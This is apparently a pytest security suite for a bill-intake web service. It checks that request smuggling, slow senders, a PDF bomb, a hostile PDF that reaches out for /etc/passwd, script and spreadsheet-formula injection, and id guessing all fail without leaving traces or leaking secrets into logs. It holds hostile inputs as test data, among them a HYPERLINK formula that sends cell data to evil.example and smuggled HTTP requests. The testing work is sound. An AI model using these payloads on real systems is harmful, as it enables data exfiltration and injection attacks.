"""Attacks on the whole product as it runs: each is answered, leaves nothing, and honest agents are served meanwhile.

The stack is its own, so that its logs hold all that happened and nothing else.
"""

from __future__ import annotations

import json
import os
import re
import socket
import uuid
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from urllib.parse import urlsplit

import psutil
import pytest
import requests
from intake.objects import words_object

from tests.pipeline.test_fields import answers_for, digits
from tests.pipeline.test_refusals import assert_nothing_left
from tests.security.bombs import laughing_pdf
from tests.security.hostile_pdfs import reaching_out
from tests.specimens.catalogue import make
from tests.support import documents
from tests.support.stacks import quick_stack, running
from tests.support.submitter import ANSWERS, Submitter, wait_for

HOLD_S = 30.0
SCRIPT = "<script>alert('owned')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Submitter]:
    temporary = tmp_path_factory.mktemp("temporary")
    options = quick_stack(tmp_path_factory.mktemp("attacked"), function_env={"TMPDIR": str(temporary)})
    with running(options) as stack:
        # Each of its processes leads a session, which its descendants stay in even when they have lost their parents.
        sessions = {pid for name in stack.log_names() if (pid := stack.pid(name)) is not None}
        assert len(in_sessions(sessions)) > len(sessions)
        yield Submitter(stack)
    wait_for("the end of all processes", lambda: not in_sessions(sessions))
    assert list(temporary.iterdir()) == []


def in_sessions(sessions: set[int]) -> list[int]:
    """Return the processes that belong to some sessions."""
    found = []
    for process in psutil.process_iter():
        with suppress(ProcessLookupError):
            if os.getsid(process.pid) in sessions and process.status() != psutil.STATUS_ZOMBIE:
                found.append(process.pid)
    return found


def raw(attacked: Submitter, request: bytes) -> bytes:
    """Send bytes to the site as they are, and return what comes back until the connection ends."""
    address = urlsplit(attacked.stack.url)
    with socket.create_connection((address.hostname, address.port), timeout=HOLD_S) as connection:
        connection.sendall(request)
        connection.shutdown(socket.SHUT_WR)
        answer = b""
        while piece := connection.recv(65536):
            answer += piece
    return answer


def head(key: str, *more: str, path: str = "/submit") -> bytes:
    """Return the beginning of a request."""
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", f"Idempotency-Key: {key}", "Connection: close"]
    return "\r\n".join([*lines, "Content-Type: multipart/form-data; boundary=b", *more, "", ""]).encode()


BODY = b'--b\r\nContent-Disposition: form-data; name="bill"; filename="b"\r\n\r\n%PDF-1.7 ' + bytes(5000)
LIES = {
    "length beyond the end": (["Content-Length: 9000000"], BODY),
    "two lengths": (["Content-Length: 5", "Content-Length: 5000"], BODY),
    "length and chunks": (["Content-Length: 5", "Transfer-Encoding: chunked"], b"0\r\n\r\nGET /sheet HTTP/1.1\r\n\r\n"),
    "chunk of no number": (["Transfer-Encoding: chunked"], b"zz\r\n" + BODY),
    "chunk shorter than it says": (["Transfer-Encoding: chunked"], b"ffffff\r\n" + BODY),
    "header of 100 KB": ([f"X-Long: {'x' * 100_000}", "Content-Length: 0"], b""),
}


@pytest.mark.parametrize("name", LIES)
def test_requests_that_lie_about_their_length(attacked: Submitter, name: str) -> None:
    """A request whose frame does not hold is refused or cut off, and nothing of it is kept."""
    key = str(uuid.uuid4())
    headers, body = LIES[name]
    answer = raw(attacked, head(key, *headers) + body)
    # A front may end the connection without a word; if it speaks it must not be of success, nor of more than one request.
    assert re.match(rb"(HTTP/1\.[01] 4\d\d |$)", answer) or answer.startswith(b"HTTP/1.1 502")
    assert answer.count(b"HTTP/1.") <= 1
    assert_nothing_left(attacked, key)


def test_slow_senders_do_not_keep_others_out(attacked: Submitter) -> None:
    """Requests that are never finished hold a place each; others are served meanwhile, and nothing stays of them."""
    keys = [str(uuid.uuid4()) for _ in range(5)]
    address = urlsplit(attacked.stack.url)
    with ExitStack() as open_ones:
        for key in keys:
            connection = open_ones.enter_context(
                socket.create_connection((address.hostname, address.port), timeout=HOLD_S)
            )
            connection.sendall(head(key, "Content-Length: 9000000") + BODY)
        row = attacked.recorded(documents.text_pdf(1))
        assert row["Status"]
    # Their connections are broken off now, which a function notices when it reads on.
    attacked.recorded(documents.text_pdf(1))


def test_hostile_files_end_with_a_code_and_the_next_bill_is_recorded(attacked: Submitter) -> None:
    """With production's limits: each fails with a reason that is true and leaves nothing; the same instance goes on."""
    instances = ocr_pids()
    bomb = attacked.submit(laughing_pdf())
    outward = reaching_out(f"{attacked.stack.url}/evil", "/etc/passwd")["JavaScript"]
    for intake_id in (bomb, attacked.submit(outward)):
        progress = attacked.ended(intake_id)
        if intake_id == bomb:
            # It takes 23 MB and a second of the processor at a time: which runs out first is the machine's affair.
            assert progress["error"]["code"] in ("file_too_slow", "file_too_large_in_memory")
            assert attacked.objects(f"bills/{intake_id}/") == []
            assert len(attacked.uploads(intake_id)) == 1  # written down, so that the sweeper checks once more
    attacked.recorded(documents.text_pdf(1))
    assert ocr_pids() == instances
    assert "/evil" not in attacked.stack.logs("gateway").read_text("utf-8", errors="replace")


def ocr_pids() -> set[int]:
    """Return the processes of `ocr`, without the worker that opens files for it."""
    mine = psutil.Process().children(recursive=True)
    return {process.pid for process in mine if process.cmdline()[-6:].count("ocr")}


def test_formulas_and_markup_stay_text_in_the_sheet(attacked: Submitter) -> None:
    """What an agent types and what a bill says reach the Sheet as text: no formula is made of it, no element of its page."""
    bill = documents.jpeg(documents.drawn([SCRIPT, FORMULA, "Account number total bill"]))
    typed = {"business_entity": FORMULA, "account_name": SCRIPT, "contact_name": "+1+1|cmd", "title": "@SUM(A1:A9)"}
    answer = attacked.post([bill], {**ANSWERS, **typed})
    assert answer.status_code == 202
    intake_id = answer.json()["intake_id"]
    assert attacked.ended(intake_id)["stage"] == "done"
    row = attacked.table.find(intake_id)
    assert row is not None
    assert [row[title] for title in ("Business Entity", "Account Name", "Contact Name", "Title")] == list(
        typed.values()
    )
    control = attacked.stack.control["sheets"]
    grid = requests.get(f"{control}/control/grid", params={"tab": "Intakes", "render": "FORMULA"}, timeout=30).json()[
        "values"
    ]
    assert FORMULA in next(values for values in grid if intake_id in values)
    tabs = requests.get(attacked.stack.sheet_url, timeout=30).text
    (gid,) = re.findall(r'href="\?gid=(\d+)"[^>]*>Intakes<', tabs)
    page = requests.get(attacked.stack.sheet_url, params={"gid": gid}, timeout=30).text
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(" in page


GUESSES = [
    "0" * 32, "f" * 32, "1", "intakes", "*", "0" * 31, "0" * 33, "'" * 32, "A" * 32, "%00" * 32,
]  # fmt: skip


def test_ids_cannot_be_guessed_or_listed(attacked: Submitter) -> None:
    """Whoever does not know an id gets the same 404 for every guess; there is no list, and ids are random."""
    known = [attacked.submit(documents.text_pdf(1)) for _ in range(2)]
    assert len({intake_id[:8] for intake_id in known}) == 2
    answers = set()
    for guess in [*GUESSES, known[0][:-1], known[0].upper(), known[0][::-1]]:
        answer = requests.get(f"{attacked.stack.url}/progress/{guess}", timeout=30)
        assert answer.status_code == 404, guess
        if answer.headers["Content-Type"].startswith("application/json"):
            answers.add(answer.text)
    assert len(answers) == 1
    for intake_id in known:
        attacked.ended(intake_id)


def test_no_value_of_a_submission_is_in_a_log(attacked: Submitter) -> None:
    """After bills were recorded, refused and failed, no log holds an answer, a name of a file or a word that was read."""
    specimen = make(21, "rge", "time_of_use")
    typed = {"contact_name": "Quentin Sample-Nobody", "phone": "607-555-0199", "email": "quentin.nobody@example.com",
             "title": "Chief Nobody Officer", "agent_id": "AG-7731"}  # fmt: skip
    answers = answers_for(specimen, **typed)
    files = [("Quentins electric bill.pdf", specimen.pdf())]
    accepted = attacked.post(files, answers)
    intake_id = accepted.json()["intake_id"]
    assert attacked.ended(intake_id)["stage"] == "done"
    assert attacked.post(files, {**answers, "phone": "12 Secret Street"}).status_code == 422
    failed = attacked.post([("Quentins broken bill.pdf", specimen.pdf()[:2000])], answers).json()["intake_id"]
    attacked.ended(failed)

    row = attacked.table.find(intake_id)
    assert row is not None
    words = [word.text for word in attacked.words(intake_id, 1).words]
    read = {text for text in words if len(text) >= 6 and any(map(str.isdigit, text))}
    assert len(read) > 5
    truth = specimen.truth
    secrets = {*typed.values(), *read, truth.customer_name, truth.service_address, truth.pod_id, truth.account_number}
    secrets |= {digits(truth.account_number), "Quentins", "12 Secret Street", FORMULA, "HYPERLINK", "alert("}
    secrets |= {str(row[title]) for title in ("Account Number", "PoD ID", "Service Address", "Customer Name")}
    secrets.discard("")
    stack = attacked.stack
    logs = {name: stack.logs(name).read_text("utf-8", errors="replace") for name in stack.log_names()}
    assert any(intake_id in text for text in logs.values()), "the logs of this run are not the ones that were read"
    assert words_object(intake_id, 1) in attacked.objects(f"words/{intake_id}/")
    found = [(name, secret) for name, text in logs.items() for secret in secrets if secret and holds(text, secret)]
    assert found == []


def holds(text: str, secret: str) -> bool:
    """Tell whether a log holds a value, as it is or as JSON writes it."""
    return secret in text or json.dumps(secret)[1:-1] in text
